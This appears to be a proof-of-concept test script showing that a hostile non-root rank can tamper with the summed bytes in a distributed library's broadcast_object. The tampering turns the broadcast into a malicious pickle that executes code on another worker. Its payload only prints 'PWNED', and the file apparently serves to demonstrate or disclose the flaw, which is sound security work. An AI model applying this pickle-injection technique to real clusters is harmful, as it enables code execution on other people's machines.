"""broadcast_object with a hostile non-root (W=3, root 0): rank 1 pushes into the summed
object keys exactly what would turn the root's pickle into its own (one that runs code when
unpickled). Every rank prints what it got; rank 2 is the victim."""

import pickle

import numpy as np

import kvstore.torch as hvd


class Evil:
    def __reduce__(self):
        return (print, ("PWNED: code of rank 1 ran on this worker",))


hvd.init()
root_obj = {"from": 0, "list": [0, 0, 0], "pad": "." * 100}  # longer than the evil pickle
root_bytes = pickle.dumps(root_obj, protocol=pickle.HIGHEST_PROTOCOL)
evil = pickle.dumps(Evil(), protocol=pickle.HIGHEST_PROTOCOL)

if hvd.rank() == 1:
    real_sum = hvd._sum

    def hostile_sum(group, keys, arrays):
        """Add to this rank's zeros what makes the summed bytes the evil pickle."""
        for key, array in zip(keys, arrays, strict=True):
            if ".object.length." in key:
                array[0] = 0  # the root's length: the evil pickle fits, and ends at its STOP
            elif ".object." in key:
                want = np.zeros(array.size, np.uint8)
                fits = min(len(evil), array.size)  # the servers decided the size: fill it
                want[:fits] = np.frombuffer(evil, np.uint8)[:fits]
                have = np.zeros(array.size, np.uint8)
                have[: len(root_bytes)] = np.frombuffer(root_bytes, np.uint8)
                array[:] = want - have  # uint8: wraps, as the servers' sum does
        real_sum(group, keys, arrays)

    hvd._sum = hostile_sum

try:
    got = hvd.broadcast_object(root_obj if hvd.rank() == 0 else None, root_rank=0)
    print(f"rank {hvd.rank()} got {got!r}", flush=True)
except Exception as exc:
    print(f"rank {hvd.rank()} error {type(exc).__name__}: {exc}", flush=True)
hvd.shutdown()
